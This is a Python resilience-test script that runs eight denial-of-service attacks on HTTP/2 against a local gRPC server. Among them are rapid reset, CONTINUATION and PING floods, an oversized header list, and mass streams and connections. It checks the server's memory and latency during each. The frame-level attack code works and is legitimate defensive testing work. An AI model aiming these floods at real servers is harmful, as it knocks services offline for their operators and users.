"""Hostile HTTP/2 clients against a live batchgate, over raw sockets with
Python's h2/hyperframe/hpack: rapid reset, a CONTINUATION flood, a 1 MiB
header list, SETTINGS and PING floods, a client that never opens its
window, 100,000 streams on one connection, and thousands of idle
connections. During each: the server stays up, its RSS (from /proc) stays
under --rss-mib, and a well-behaved client on another connection is
answered within 1 s.

    python attacks.py --addr 127.0.0.1:20085 --pid PID
"""

import argparse
import resource
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

parser = argparse.ArgumentParser()
parser.add_argument("--addr", required=True)
parser.add_argument("--pid", type=int, required=True)
parser.add_argument("--rss-mib", type=int, default=256)
parser.add_argument("--idle", type=int, default=10000)
parser.add_argument("--only", default="", help="run only the attacks named (comma-separated)")
args = parser.parse_args()
host, port = args.addr.split(":")
port = int(port)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SUBMIT = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/batchgate.v1.Batcher/Submit"),
    (":authority", "batchgate"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def grpc_message(queue=b"echo", payload=b"ok"):
    msg = b"\x0a" + bytes([len(queue)]) + queue + b"\x12" + bytes([len(payload)]) + payload
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def rss_mib():
    with open(f"/proc/{args.pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise SystemExit("the server is gone")


def good_call():
    """One well-behaved Submit on a new connection, reconnecting (as gRPC
    clients do) if the connection is lost before the answer; its latency in
    seconds, all tries included."""
    start = time.perf_counter()
    while True:
        try:
            one_call()
            return time.perf_counter() - start
        except OSError:
            if time.perf_counter() - start > 1:
                raise
            time.sleep(0.01)


def one_call():
    s = socket.create_connection((host, port), timeout=1)
    try:
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, SUBMIT)
        c.send_data(sid, grpc_message(), end_stream=True)
        s.sendall(c.data_to_send())
        status = None
        while True:
            data = s.recv(65536)
            if not data:
                raise ConnectionResetError("connection closed before the answer")
            for e in c.receive_data(data):
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    for k, v in e.headers:
                        if k == b"grpc-status":
                            status = v
                if isinstance(e, h2.events.DataReceived):
                    c.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                if isinstance(e, h2.events.StreamEnded):
                    assert status == b"0", f"grpc-status {status}"
                    return
            s.sendall(c.data_to_send())
    finally:
        s.close()


def raw_connection(settings=None):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return s


def drain(s, stop, seen):
    """Reads and parses frames until the connection closes or `stop`."""
    buf = b""
    s.settimeout(0.2)
    while not stop.is_set():
        try:
            data = s.recv(1 << 20)
        except socket.timeout:
            continue
        except OSError:
            return
        if not data:
            return
        buf += data
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(buf[:9])
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            seen.append(frame)


def send_quietly(s, data):
    try:
        s.sendall(data)
        return True
    except OSError:
        return False


def rapid_reset(stop):
    enc, sent = Encoder(), 0
    while sent < 10000 and not stop.is_set():
        s = raw_connection()
        sid = 1
        while sent < 10000:
            frames = b"".join(
                HeadersFrame(sid + 2 * k, data=enc.encode(SUBMIT), flags=["END_HEADERS"]).serialize()
                + RstStreamFrame(sid + 2 * k, error_code=8).serialize()
                for k in range(100)
            )
            sid += 200
            if not send_quietly(s, frames):
                break
            sent += 100
        s.close()
        enc = Encoder()
    return f"{sent} streams opened and reset"


def continuation_flood(stop):
    s = raw_connection()
    enc = Encoder()
    block = enc.encode(SUBMIT)
    send_quietly(s, HeadersFrame(1, data=block).serialize())
    junk = enc.encode([("x-flood", "a" * 16000)])
    frames = 0
    while frames < 20000 and not stop.is_set():
        if not send_quietly(s, ContinuationFrame(1, data=junk).serialize()):
            break
        frames += 1
    s.close()
    return f"{frames} CONTINUATION frames before the server closed the connection" if frames < 20000 else f"{frames} frames sent"


def big_header_list(stop):
    s = raw_connection()
    s.settimeout(2)
    block = Encoder().encode(SUBMIT + [("x-big", "b" * (1 << 20))], huffman=False)
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    data = HeadersFrame(1, data=chunks[0]).serialize()
    for i, chunk in enumerate(chunks[1:], 1):
        flags = ["END_HEADERS"] if i == len(chunks) - 1 else []
        data += ContinuationFrame(1, data=chunk, flags=flags).serialize()
    sent = send_quietly(s, data)
    seen, done = [], threading.Event()
    threading.Timer(1.0, done.set).start()
    drain(s, done, seen)
    s.close()
    kinds = sorted({type(f).__name__ for f in seen if not isinstance(f, (SettingsFrame, WindowUpdateFrame, PingFrame))})
    how = "sent in full" if sent else "not read in full (the server stopped reading)"
    return f"1 MiB header list {how}; the server answered {', '.join(kinds) or 'nothing'} for it"


def settings_flood(stop):
    s = raw_connection()
    n = 0
    while n < 100000 and not stop.is_set():
        if not send_quietly(s, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize() * 100):
            break
        n += 100
    s.close()
    return f"{n} SETTINGS frames, never reading the ACKs"


def ping_flood(stop):
    s = raw_connection()
    n = 0
    while n < 100000 and not stop.is_set():
        if not send_quietly(s, PingFrame(0, opaque_data=b"12345678").serialize() * 100):
            break
        n += 100
    s.close()
    return f"{n} PINGs, never reading the answers"


def closed_window(stop):
    s = raw_connection({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    enc = Encoder()
    payload = b"w" * 120
    for k in range(500):
        sid = 1 + 2 * k
        send_quietly(
            s,
            HeadersFrame(sid, data=enc.encode(SUBMIT), flags=["END_HEADERS"]).serialize()
            + DataFrame(sid, data=grpc_message(payload=payload), flags=["END_STREAM"]).serialize(),
        )
    time.sleep(1.5)
    s.close()
    return "500 calls whose answers can never be sent (window 0)"


def many_streams(stop):
    s = raw_connection()
    seen = []
    reader = threading.Thread(target=drain, args=(s, stop, seen))
    reader.start()
    enc = Encoder()
    sent = 0
    while sent < 100000 and not stop.is_set():
        data = b"".join(
            HeadersFrame(1 + 2 * (sent + k), data=enc.encode(SUBMIT), flags=["END_HEADERS"]).serialize()
            for k in range(500)
        )
        if not send_quietly(s, data):
            break
        sent += 500
    time.sleep(1)
    stop.set()
    reader.join()
    s.close()
    refused = sum(1 for f in seen if isinstance(f, RstStreamFrame) and f.error_code == 7)
    assert refused > 0, "streams past max_concurrent_streams were refused (REFUSED_STREAM)"
    return f"{sent} streams on one connection: {refused} REFUSED_STREAM"


def idle_connections(stop):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    want = min(args.idle, hard - 200)
    held = []
    # Opened 100 at a time (idle connections, not a connect storm).
    for k in range(want):
        if stop.is_set():
            break
        try:
            held.append(raw_connection())
        except OSError:
            break
        if k % 100 == 99:
            time.sleep(0.02)
    time.sleep(1)
    for s in held:
        s.close()
    return f"{len(held)} idle connections held"


ATTACKS = [rapid_reset, continuation_flood, big_header_list, settings_flood, ping_flood, closed_window, many_streams, idle_connections]
good_call()
print(f"baseline: RSS {rss_mib():.0f} MiB, a call answered in {good_call() * 1000:.1f} ms")
failed = False
for attack in [a for a in ATTACKS if not args.only or a.__name__ in args.only.split(",")]:
    stop = threading.Event()
    outcome = {}
    t = threading.Thread(target=lambda: outcome.setdefault("said", attack(stop)))
    t.start()
    worst, peak, calls = 0.0, 0.0, 0
    deadline = time.monotonic() + 60
    while t.is_alive() or calls < 3:
        peak = max(peak, rss_mib())
        try:
            worst = max(worst, good_call())
        except Exception as e:  # noqa: BLE001
            worst = float("inf")
            print(f"  {attack.__name__}: a good call failed: {e!r}")
        calls += 1
        if time.monotonic() > deadline:
            stop.set()
        time.sleep(0.05)
    t.join()
    peak = max(peak, rss_mib())
    ok = worst < 1.0 and peak < args.rss_mib
    failed |= not ok
    print(f"{'ok  ' if ok else 'FAIL'} {attack.__name__}: {outcome.get('said', 'did not finish')}; "
          f"{calls} good calls, slowest {worst * 1000:.0f} ms; peak RSS {peak:.0f} MiB (bound {args.rss_mib})")
print(f"after all: RSS {rss_mib():.0f} MiB, a call answered in {good_call() * 1000:.1f} ms")
sys.exit(1 if failed else 0)
